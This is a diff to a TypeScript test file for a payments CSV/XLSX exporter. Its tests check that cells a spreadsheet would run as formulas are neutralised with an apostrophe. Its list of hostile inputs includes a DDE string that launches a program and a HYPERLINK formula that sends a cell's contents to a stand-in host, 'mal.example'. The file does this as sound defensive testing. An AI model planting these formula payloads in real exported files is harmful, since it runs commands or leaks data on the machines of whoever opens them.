@@ -11,33 +11,25 @@ const plain: ExportRow = {
   ...{ gross: 130_000, retention: 14_300, net: 115_700, method: "Bre-B", reference: "M-4711", state: "Confirmado" },
   ...{ confirmed: "2026-11-03 10:00:00", annulled: "", reason: "", nit: "52111222-3" },
 };
-
 const HOSTILE = [
+  ...["=1+1", "+57 300 123 4567", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", "  =1+1", "＝1+1", "'=1"],
   ...[
-    "=1+1",
-    "+57 300 123 4567",
-    "-1",
-    "@SUM(A1)",
-    "\tx",
-    "\rx",
-    "\nx",
-    "  =1+1",
-    "＝1+1",
-    "'=1",
     "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://mal.example?"&A1;"clic")',
+    'a "b"; c, d',
+    "uno\ndos",
+    " espacios ",
+    "<b>&amp;</b>",
   ],
-  ...['=HYPERLINK("http://mal.example?"&A1;"clic")', 'a "b"; c, d', "uno\ndos", " espacios ", "<b>&amp;</b>"],
   ...["😀 Zoë", "_x0041_"],
 ];
 const RUN_BY_SPREADSHEETS = /^(?:[\t\r\n]|\s*[=+\-@＝])/;
-
 const rows: ExportRow[] = [
   plain,
   { ...plain, date: "2026-12-31", receipt: null, gross: -50_000, retention: 0, net: -50_000, state: "Devolución" },
   ...HOSTILE.map((text, index) => ({ ...plain, receipt: 13 + index, client: text, concept: text, reference: text })),
 ];
 const sum = (values: unknown[]) => values.reduce<number>((total, value) => total + Number(value), 0);
-
 const readCsv = async (file: Blob) => {
   const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await file.arrayBuffer());
   const { data, errors } = parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: ";", skipEmptyLines: true });
@@ -48,7 +40,7 @@ const sheetsOf = async (file: Promise<Blob>) =>
   readExcelFile(Buffer.from(await (await file).arrayBuffer()), { trim: false });
 const readXlsx = async (of: ExportRow[]) => (await sheetsOf(paymentsXlsx(of)))[0]?.data ?? [];
 
-test("another program reads a CSV unchanged: titles, texts and sums", async () => {
+test("a CSV that another library reads has the same titles, texts and sums", async () => {
   const { text, lines } = await readCsv(paymentsCsv(rows));
   expect(text.startsWith("\uFEFFFecha;Recibo;Cliente;Documento;")).toBe(true);
   expect(text.endsWith("\r\n")).toBe(true);
@@ -64,7 +56,7 @@ test("another program reads a CSV unchanged: titles, texts and sums", async () =
   expect(column("receipt")[1]).toBe("");
 });
 
-test("no formula is left in a CSV, and no other text changes", async () => {
+test("a CSV marks texts that a spreadsheet would run as formulas with an apostrophe, and changes no others", async () => {
   const { lines } = await readCsv(paymentsCsv(rows));
   for (const [index, hostile] of HOSTILE.entries()) {
     const written = lines[index + 3]?.[2];
@@ -73,7 +65,7 @@ test("no formula is left in a CSV, and no other text changes", async () => {
   }
 });
 
-test("another program reads an XLSX unchanged: dates, numbers, texts and sums", async () => {
+test("an XLSX that another library reads has the same dates, numbers, texts and sums", async () => {
   const [titles, first, second, ...hostile] = await readXlsx(rows);
   expect(titles).toEqual(COLUMNS.map(({ title }) => title));
   const cells = Object.values(plain).map((value) => (value === "" ? null : value));
@@ -87,7 +79,7 @@ test("another program reads an XLSX unchanged: dates, numbers, texts and sums", 
   }
 });
 
-test("characters that no cell can hold are dropped", async () => {
+test("characters that a cell cannot hold are dropped, and texts are cut at 32,767 characters", async () => {
   const broken = { ...plain, client: "a\u0000b\u0001\uD800c\uFFFF", concept: "x".repeat(40_000) };
   const [, line] = await readXlsx([broken]);
   expect(line?.[2]).toBe("abc");
@@ -95,7 +87,7 @@ test("characters that no cell can hold are dropped", async () => {
   expect((await readCsv(paymentsCsv([broken]))).lines[1]?.[2]).toBe("abc");
 });
 
-test("only titles are written if there are no payments", async () => {
+test("a file without payments has only the row of titles", async () => {
   expect((await readCsv(paymentsCsv([]))).lines).toHaveLength(1);
   expect(await readXlsx([])).toHaveLength(1);
 });
@@ -110,15 +102,14 @@ const table: Table = {
   lines: [{ cells: ["2026-11-03", "=1+1", 1_200_000] }, { cells: [null, "Total", -50_000], isStrong: true }],
 };
 const TITLES = ["Fecha", "Nota", "Valor"];
-
-test("tables are written as CSV, each under its title, without formulas", async () => {
+test("a CSV has each table under its title, without formulas", async () => {
   const { text } = await readCsv(tablesCsv([table, { ...table, title: "Otra" }]));
   const lines = parse<string[]>(text.slice(1), { delimiter: ";" }).data;
   const cells = [TITLES, ["2026-11-03", "'=1+1", "1200000"], ["", "Total", "-50000"], [""]];
   expect(lines).toEqual([["Gastos"], ...cells, ["Otra"], ...cells]);
 });
 
-test("tables are put on their own sheets after the payments", async () => {
+test("an XLSX has each table on a sheet of its own after the payments", async () => {
   const [payments, sheet] = await sheetsOf(paymentsXlsx([], [table]));
   expect([payments?.sheet, payments?.data.length, sheet?.sheet]).toEqual(["Pagos", 1, "Gastos"]);
   const cells = [new Date("2026-11-03T00:00:00Z"), "=1+1", 1_200_000];
